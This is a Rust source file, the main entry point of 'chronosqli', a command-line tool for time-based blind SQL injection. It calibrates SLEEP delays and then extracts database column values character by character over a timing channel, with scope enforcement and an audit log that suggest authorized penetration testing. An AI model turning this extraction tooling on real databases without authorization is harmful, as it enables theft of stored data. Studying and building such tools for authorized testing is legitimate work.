use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::{Parser, Subcommand};
use colored::Colorize;
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};
use url::Url;

mod cli;
mod core;
mod timing;

use cli::banner::display_banner;
use core::audit::AuditLogger;
use core::config::Config;
use timing::{
    BinarySearchExtractor, CalibrationOutcome, Calibrator, CharacterExtractor, ExtractionSession,
    ExtractionTarget, ParallelScheduler, PayloadTemplate, TimingAnalyzer, TraditionalExtractor,
};

#[derive(Parser)]
#[command(name = "chronosqli")]
#[command(
    about = "Statistical timing-oracle engine for time-based blind SQL injection extraction",
    long_about = None
)]
struct Cli {
    #[command(subcommand)]
    command: Commands,

    /// Enable debug-level logging
    #[arg(short, long)]
    verbose: bool,

    /// Path to a TOML configuration file
    #[arg(long, default_value = "config/default.toml")]
    config: String,
}

#[derive(Subcommand)]
enum Commands {
    /// Measure the smallest reliably-detectable SLEEP delay against a target
    Calibrate {
        /// Target URL carrying the vulnerable parameter
        #[arg(long)]
        url: String,

        #[arg(long)]
        param: Option<String>,

        #[arg(long)]
        template: Option<String>,

        /// Smallest candidate SLEEP delay to try, in seconds
        #[arg(long)]
        min: Option<f64>,

        /// Largest candidate SLEEP delay to try, in seconds
        #[arg(long)]
        max: Option<f64>,

        /// Increment between candidate delays, in seconds
        #[arg(long)]
        step: Option<f64>,
    },

    /// Extract a column value character by character over the timing channel
    Extract {
        #[arg(long)]
        url: String,

        #[arg(long)]
        param: Option<String>,

        #[arg(long)]
        template: Option<String>,

        /// Table to read from
        #[arg(long)]
        table: String,

        /// Column to extract
        #[arg(long)]
        column: String,

        /// Row-selecting SQL predicate, e.g. "id = 1"
        #[arg(long = "where")]
        where_clause: String,

        #[arg(long, default_value_t = 32)]
        max_length: u32,

        /// Skip calibration and use this delay directly, in seconds
        #[arg(long)]
        delay: Option<f64>,

        /// Extract positions concurrently instead of left to right
        #[arg(long)]
        parallel: bool,

        /// Concurrent oracle evaluations in flight when --parallel is set
        #[arg(long)]
        workers: Option<usize>,

        /// Use the linear-search comparator instead of the binary-search engine
        #[arg(long)]
        traditional: bool,

        /// Positions per chunk when --parallel is set; extraction halts as
        /// soon as a chunk contains the end of the value instead of
        /// scheduling the whole --max-length range up front
        #[arg(long, default_value_t = 8)]
        chunk_size: u32,
    },

    /// Manage authorized targets
    Scope {
        #[command(subcommand)]
        action: ScopeAction,
    },

    /// View the tamper-evident audit log
    Audit {
        #[arg(long)]
        session_id: Option<String>,

        /// Write the (optionally filtered) logs to this file instead of stdout
        #[arg(long)]
        export: Option<String>,
    },
}

#[derive(Subcommand)]
enum ScopeAction {
    /// Add a target to authorized scope
    Add { target: String },
    /// Remove a target from scope
    Remove { target: String },
    /// List all authorized targets
    List,
    /// Verify if a target is in scope
    Check { target: String },
}

#[tokio::main]
async fn main() -> Result<()> {
    let args: Vec<String> = std::env::args().collect();
    let show_banner = args.len() == 1
        || args.iter().any(|a| a == "--help" || a == "-h" || a == "help");
    if show_banner {
        display_banner();
    }

    let cli = Cli::parse();

    let log_level = if cli.verbose { "debug" } else { "info" };
    tracing_subscriber::registry()
        .with(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| format!("chronosqli={}", log_level).into()),
        )
        .with(tracing_subscriber::fmt::layer())
        .init();

    let config = Config::load_or_default(&cli.config)?;
    if std::path::Path::new(&cli.config).exists() {
        tracing::info!(path = %cli.config, "configuration loaded");
    } else {
        tracing::info!("using default configuration");
    }

    let audit = AuditLogger::new(&config.audit.log_path)?;

    match cli.command {
        Commands::Calibrate {
            url,
            param,
            template,
            min,
            max,
            step,
        } => {
            handle_calibrate(
                CalibrateArgs {
                    url,
                    param,
                    template,
                    min,
                    max,
                    step,
                },
                &config,
                &audit,
            )
            .await?
        }

        Commands::Extract {
            url,
            param,
            template,
            table,
            column,
            where_clause,
            max_length,
            delay,
            parallel,
            workers,
            traditional,
            chunk_size,
        } => {
            handle_extract(
                ExtractArgs {
                    url,
                    param,
                    template,
                    table,
                    column,
                    where_clause,
                    max_length,
                    delay,
                    parallel,
                    workers,
                    traditional,
                    chunk_size,
                },
                &config,
                &audit,
            )
            .await?
        }

        Commands::Scope { action } => handle_scope_action(action, &config, &cli.config).await?,

        Commands::Audit { session_id, export } => {
            handle_audit_command(session_id, export, &audit).await?
        }
    }

    Ok(())
}

fn ensure_in_scope(url: &Url, config: &Config) -> Result<()> {
    let host = url.host_str().context("target URL has no host")?;
    if !config.scope.is_in_scope(host) {
        anyhow::bail!(
            "target '{}' is not in authorized scope. Add it with: chronosqli scope add {}",
            host,
            host
        );
    }
    Ok(())
}

struct CalibrateArgs {
    url: String,
    param: Option<String>,
    template: Option<String>,
    min: Option<f64>,
    max: Option<f64>,
    step: Option<f64>,
}

async fn handle_calibrate(args: CalibrateArgs, config: &Config, audit: &AuditLogger) -> Result<()> {
    let base_url = Url::parse(&args.url).context("invalid target URL")?;
    ensure_in_scope(&base_url, config)?;

    let param = args.param.unwrap_or_else(|| config.target.param.clone());
    let template_str = args
        .template
        .unwrap_or_else(|| config.target.payload_template.clone());
    let payload_template = PayloadTemplate::parse(template_str)?;

    let calibrator = Calibrator::new(
        base_url,
        param,
        payload_template,
        Duration::from_secs(config.target.request_timeout_secs),
    )?;

    let mut calibrator_cfg = config.calibrator.clone();
    if let Some(min) = args.min {
        calibrator_cfg.min_delay_secs = min;
    }
    if let Some(max) = args.max {
        calibrator_cfg.max_delay_secs = max;
    }
    if let Some(step) = args.step {
        calibrator_cfg.step_secs = step;
    }

    println!(
        "\n{} Calibrating delay against {}",
        "->".blue(),
        args.url.yellow()
    );
    let outcome: CalibrationOutcome = calibrator.detect_optimal_delay(&calibrator_cfg).await;

    if outcome.fallback_used {
        println!(
            "{} No candidate delay was reliably detectable; falling back to {}s",
            "!".yellow(),
            outcome.delay_secs
        );
    } else {
        println!(
            "{} Calibrated delay: {}s",
            "+".green(),
            outcome.delay_secs
        );
    }

    audit.log(
        None,
        "calibration",
        &format!(
            "calibrated delay {}s (fallback used: {})",
            outcome.delay_secs, outcome.fallback_used
        ),
        Some(&args.url),
        Some(&outcome.delay_secs.to_string()),
    )?;

    Ok(())
}

struct ExtractArgs {
    url: String,
    param: Option<String>,
    template: Option<String>,
    table: String,
    column: String,
    where_clause: String,
    max_length: u32,
    delay: Option<f64>,
    parallel: bool,
    workers: Option<usize>,
    traditional: bool,
    chunk_size: u32,
}

async fn handle_extract(args: ExtractArgs, config: &Config, audit: &AuditLogger) -> Result<()> {
    let base_url = Url::parse(&args.url).context("invalid target URL")?;
    ensure_in_scope(&base_url, config)?;

    let param = args.param.unwrap_or_else(|| config.target.param.clone());
    let template_str = args
        .template
        .unwrap_or_else(|| config.target.payload_template.clone());
    let payload_template = PayloadTemplate::parse(template_str)?;
    let request_timeout = Duration::from_secs(config.target.request_timeout_secs);

    let delay_secs = match args.delay {
        Some(d) => d,
        None => {
            let calibrator = Calibrator::new(
                base_url.clone(),
                param.clone(),
                payload_template.clone(),
                request_timeout,
            )?;
            println!("\n{} No --delay given, calibrating first...", "->".blue());
            let outcome = calibrator.detect_optimal_delay(&config.calibrator).await;
            if outcome.fallback_used {
                println!(
                    "{} Calibration fell back to {}s",
                    "!".yellow(),
                    outcome.delay_secs
                );
            } else {
                println!("{} Calibrated delay: {}s", "+".green(), outcome.delay_secs);
            }
            outcome.delay_secs
        }
    };

    let session = Arc::new(ExtractionSession::new(
        base_url,
        param,
        payload_template,
        delay_secs,
        TimingAnalyzer::new(config.analyzer.confidence_level, config.analyzer.min_samples),
        config.analyzer.oracle_samples,
        request_timeout,
        true,
    )?);

    let cancel_flag = session.cancel_flag();
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            tracing::warn!("interrupt received, cancelling extraction");
            cancel_flag.store(true, std::sync::atomic::Ordering::Relaxed);
        }
    });

    let target = ExtractionTarget::new(args.table.clone(), args.column.clone(), args.where_clause.clone());

    println!(
        "\n{} Extracting {}.{} where {} (delay {}s)",
        "->".blue(),
        args.table.cyan(),
        args.column.cyan(),
        args.where_clause.yellow(),
        delay_secs
    );

    let started = Instant::now();
    let (value, total_queries): (String, u64) = if args.traditional {
        let extractor = TraditionalExtractor::new(Arc::clone(&session), target);
        let value = extractor.extract_string(args.max_length).await;
        (value, extractor.total_queries())
    } else if args.parallel {
        let workers = args.workers.unwrap_or(config.calibrator.default_workers);
        let extractor: Arc<dyn CharacterExtractor> =
            Arc::new(BinarySearchExtractor::new(Arc::clone(&session), target));
        let scheduler = ParallelScheduler::new(workers);
        let value = scheduler
            .extract_string_chunks(Arc::clone(&extractor), args.max_length, args.chunk_size)
            .await;
        (value, extractor.total_queries())
    } else {
        let extractor = BinarySearchExtractor::new(Arc::clone(&session), target);
        let value = extractor.extract_string(args.max_length).await;
        (value, extractor.total_queries())
    };
    let elapsed = started.elapsed();

    println!(
        "\n{} Extracted value: {}",
        "+".green(),
        value.bright_white().bold()
    );
    println!(
        "{} {} queries in {:.1}s",
        "->".blue(),
        total_queries,
        elapsed.as_secs_f64()
    );

    audit.log(
        Some(&session.id),
        "extraction",
        &format!(
            "extracted {}.{} ({} queries, {:.1}s)",
            args.table,
            args.column,
            total_queries,
            elapsed.as_secs_f64()
        ),
        Some(&args.url),
        Some(&value),
    )?;

    Ok(())
}

async fn handle_scope_action(action: ScopeAction, config: &Config, config_path: &str) -> Result<()> {
    match action {
        ScopeAction::Add { target } => {
            config.scope.add_target(&target)?;
            config.save(config_path)?;
            println!("\n{} Added target to scope: {}", "+".green(), target.yellow());
        }
        ScopeAction::Remove { target } => {
            config.scope.remove_target(&target)?;
            config.save(config_path)?;
            println!("\n{} Removed target from scope: {}", "-".red(), target.yellow());
        }
        ScopeAction::List => {
            let targets = config.scope.list_targets();
            if targets.is_empty() {
                println!("\nNo targets in scope. Add one with: chronosqli scope add <target>");
            } else {
                println!("\n{}", "Authorized targets:".bright_blue());
                for target in targets {
                    println!("  - {}", target.yellow());
                }
            }
        }
        ScopeAction::Check { target } => {
            if config.scope.is_in_scope(&target) {
                println!(
                    "\n{} Target '{}' is in authorized scope",
                    "+".green(),
                    target.yellow()
                );
            } else {
                println!(
                    "\n{} Target '{}' is NOT in authorized scope",
                    "-".red(),
                    target.yellow()
                );
            }
        }
    }
    Ok(())
}

async fn handle_audit_command(
    session_id: Option<String>,
    export: Option<String>,
    audit: &AuditLogger,
) -> Result<()> {
    let logs = audit.read_logs(session_id.as_deref())?;

    if let Some(export_path) = export {
        audit.export_logs(&logs, &export_path)?;
        println!(
            "\n{} Exported {} audit log entries to: {}",
            "+".green(),
            logs.len(),
            export_path.yellow()
        );
    } else {
        println!("\n{}", "Audit log:".bright_blue());
        for entry in logs.iter().take(50) {
            println!(
                "  [{}] {} - {}",
                entry.timestamp,
                entry.event_type.cyan(),
                entry.description
            );
        }
        if logs.len() > 50 {
            println!("  ... and {} more entries", logs.len() - 50);
        }
    }

    Ok(())
}
